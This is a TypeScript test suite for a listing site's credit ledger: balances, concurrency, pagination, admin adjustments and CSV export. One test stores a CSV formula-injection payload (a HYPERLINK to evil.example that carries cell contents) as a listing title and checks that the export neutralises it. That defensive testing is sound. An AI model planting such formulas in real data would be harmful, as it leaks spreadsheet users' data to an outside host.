import { eq, sql } from "drizzle-orm";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { toMinor } from "../../domain/money.ts";
import { adjustCredits } from "../../server/credits/adjust-credits.server.ts";
import { addLedgerEntry } from "../../server/credits/add-ledger-entry.server.ts";
import { creditBalanceCents } from "../../server/credits/credit-balance.server.ts";
import { creditLedgerLines } from "../../server/credits/credit-ledger.server.ts";
import { createListing } from "../../server/db/factories/listings.server.ts";
import { createUser } from "../../server/db/factories/users.server.ts";
import { creditLedger, properties } from "../../server/db/schema.ts";
import { changeListingPlan } from "../../server/listings/change-plan.server.ts";
import { planWaitFor } from "../../server/payments/plan-wait.server.ts";
import { db } from "../../server/runtime.server.ts";
import { refusal } from "../support/refusal.ts";
import { RouterContextProvider } from "react-router";
import { loader as ledgerCsvLoader } from "../../app/routes/resources/credits-ledger-csv.ts";
import { requestContext } from "../../server/http/request-context.ts";
import { sessionContext } from "../../app/lib/session-context.ts";
import { parseCsv } from "../../domain/csv.ts";
import { signIn } from "../../server/accounts/sign-in.server.ts";
import { readRequestActor } from "../../server/auth/request-actor.server.ts";

const move = (userId: string, amountCents: number, kind: "purchase" | "spend" | "adjustment" | "refund" = amountCents > 0 ? "purchase" : "spend") =>
  db().transaction((tx) => addLedgerEntry(tx, { userId, amountCents, kind }));
const cents = (userId: string) => creditBalanceCents(userId);
const ledgerSumCents = async (userId: string) => {
  const rows = await db().select({ amount: creditLedger.amountCents }).from(creditLedger).where(eq(creditLedger.userId, userId));
  return rows.reduce((total, row) => total + row.amount, 0);
};

describe("the credit ledger", () => {
  it("moves whole cents, refuses to go below zero and leaves the balance as it was", async () => {
    const user = await createUser(db());
    expect(await move(user.id, 1_005)).toBe(1_005);
    expect(await move(user.id, -5)).toBe(1_000);
    expect(await refusal(move(user.id, -1_001))).toBe("insufficient_credits");
    expect(await cents(user.id)).toBe(1_000);
    await expect(move(user.id, 0)).rejects.toThrow(RangeError);
    await expect(move(user.id, 1.5)).rejects.toThrow(RangeError);
    expect(await refusal(move("00000000-0000-4000-8000-000000000000", 100))).toBe("not_found");
  });

  it("two spends of the last credits at once: exactly one succeeds", async () => {
    for (let round = 0; round < 5; round++) {
      const user = await createUser(db());
      await move(user.id, 2_000);
      const outcomes = await Promise.all([refusal(move(user.id, -2_000)), refusal(move(user.id, -2_000))]);
      expect(outcomes.sort()).toEqual(["allowed", "insufficient_credits"]);
      expect(await cents(user.id)).toBe(0);
    }
  });

  it("two tabs buying a plan with the last credits: one listing gets it, the other is refused", async () => {
    const owner = await createUser(db());
    const first = await createListing(db(), { ownerId: owner.id, status: "Approved" });
    const second = await createListing(db(), { ownerId: owner.id, status: "Approved" });
    const [gold] = await db()
      .execute<{ rental_price_usd: string }>(sql`select rental_price_usd from plans where id = 'gold'`)
      .then((r) => r.rows);
    await move(owner.id, toMinor(String(gold?.rental_price_usd)));
    const actor = { kind: "user" as const, userId: owner.id, isAdmin: false };
    const outcomes = await Promise.all(
      [first, second].map((listing) => refusal(changeListingPlan({ propertyId: listing.id, actor, plan: "gold", payment: { kind: "credits" } }))),
    );
    expect(outcomes.sort()).toEqual(["allowed", "insufficient_credits"]);
    expect(await cents(owner.id)).toBe(0);
    const plans = await db()
      .select({ id: properties.id, planId: properties.planId })
      .from(properties)
      .where(sql`${properties.id} in (${first.id}, ${second.id})`);
    expect(plans.filter((row) => row.planId === "gold")).toHaveLength(1);
    // The refused listing now waits for Gold: a payment for it buys that plan (makePayment with PropertyID).
    const refused = plans.find((row) => row.planId !== "gold")!;
    expect(await planWaitFor(owner.id, refused.id)).toEqual({ planId: "gold", periods: 1 });
  });

  it("a random sequence of movements: each balance always equals the sum of its ledger and never goes below zero", async () => {
    const users = [await createUser(db()), await createUser(db())];
    const model = new Map(users.map((user) => [user.id, 0]));
    const operation = fc.record({
      who: fc.integer({ min: 0, max: users.length - 1 }),
      cents: fc.integer({ min: -5_000, max: 5_000 }).filter((value) => value !== 0),
      kind: fc.constantFrom("purchase", "spend", "adjustment", "refund"),
      together: fc.boolean(),
    });
    await fc.assert(
      fc.asyncProperty(fc.array(operation, { minLength: 1, maxLength: 12 }), async (operations) => {
        // Some run concurrently with the next one: the per-user lock must keep them apart.
        for (let index = 0; index < operations.length; index++) {
          const batch = [operations[index]!];
          while (batch.at(-1)!.together && index + 1 < operations.length) batch.push(operations[++index]!);
          const outcomes = await Promise.all(batch.map((op) => refusal(move(users[op.who]!.id, op.cents, op.kind as "purchase"))));
          // Replay what the database did on the model, in some order that explains it.
          for (const [position, op] of batch.entries()) {
            const id = users[op.who]!.id;
            if (outcomes[position] === "allowed") model.set(id, model.get(id)! + op.cents);
            else expect(outcomes[position]).toBe("insufficient_credits");
          }
          for (const user of users) {
            const balance = await cents(user.id);
            expect(balance).toBeGreaterThanOrEqual(0);
            expect(balance).toBe(await ledgerSumCents(user.id));
            expect(balance).toBe(model.get(user.id));
          }
        }
      }),
      { numRuns: 25 },
    );
  });

  it("the ledger page: newest first, each line with its running balance, 20 a page, all lines for the CSV", async () => {
    const user = await createUser(db());
    const listing = await createListing(db(), { ownerId: user.id, title: "Flat in Hamra" });
    await move(user.id, 5_000);
    await db().transaction((tx) => addLedgerEntry(tx, { userId: user.id, amountCents: -1_250, kind: "spend", propertyId: listing.id }));
    for (let index = 0; index < 20; index++) await move(user.id, 100, "adjustment");
    const first = await creditLedgerLines(user.id, 1);
    expect(first.total).toBe(22);
    expect(first.lines).toHaveLength(20);
    expect(first.lines[0]).toMatchObject({ kind: "adjustment", amountCents: 100, balanceCents: 5_750 });
    const second = await creditLedgerLines(user.id, 2);
    expect(second.lines.map((line) => [line.kind, line.amountCents, line.balanceCents, line.propertyTitle])).toEqual([
      ["spend", -1_250, 3_750, "Flat in Hamra"],
      ["purchase", 5_000, 5_000, null],
    ]);
    expect((await creditLedgerLines(user.id)).lines).toHaveLength(22);
    // Another user's page is theirs alone.
    expect((await creditLedgerLines((await createUser(db())).id, 1)).total).toBe(0);
  });
});

describe("the ledger's CSV", () => {
  it("writes a listing title a spreadsheet would run as a formula as text, and the app's own amounts as numbers", async () => {
    const user = await createUser(db());
    const listing = await createListing(db(), { ownerId: user.id, title: '=HYPERLINK("http://evil.example/?"&A1,"Open")' });
    await move(user.id, 5_000);
    await db().transaction((tx) => addLedgerEntry(tx, { userId: user.id, amountCents: -1_250, kind: "spend", propertyId: listing.id }));
    const { cookies } = await signIn({ email: user.email, password: user.password }, { clientAddress: "192.0.2.40", headers: new Headers() });
    const actor = await readRequestActor(new Headers({ cookie: cookies.map((cookie) => cookie.split(";")[0]).join("; ") }));
    const context = new RouterContextProvider();
    context.set(sessionContext, { state: actor.state, user: actor.user, expired: actor.expired });
    context.set(requestContext, { requestId: "test", cspNonce: "", locale: "en", clientAddress: "192.0.2.40" });
    const response = (await ledgerCsvLoader({ request: new Request("http://localhost/credits/ledger.csv"), params: {}, context } as never)) as Response;
    expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString("utf8");
    const [, spend] = parseCsv(text);
    expect(spend).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"Open")`);
    expect(spend).toContain("-12.50");
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});

describe("credit adjustments", () => {
  it("an admin adds or takes credits with a reason, never below zero; anyone else is refused", async () => {
    const admin = await createUser(db(), { admin: true });
    const user = await createUser(db());
    expect(await adjustCredits(admin.id, { email: user.email.toUpperCase(), amountCents: 1_500, reason: "Goodwill" })).toBe(1_500);
    expect(await refusal(adjustCredits(admin.id, { email: user.email, amountCents: -1_501, reason: "Too much" }))).toBe("insufficient_credits");
    expect(await refusal(adjustCredits(admin.id, { email: "nobody@example.com", amountCents: 100, reason: "Nobody" }))).toBe("user_not_found");
    expect(await refusal(adjustCredits(user.id, { email: user.email, amountCents: 10_000, reason: "Myself" }))).toBe("forbidden");
    expect(await cents(user.id)).toBe(1_500);
    const [line] = (await creditLedgerLines(user.id, 1)).lines;
    expect(line).toMatchObject({ kind: "adjustment", note: "Goodwill" });
  });
});
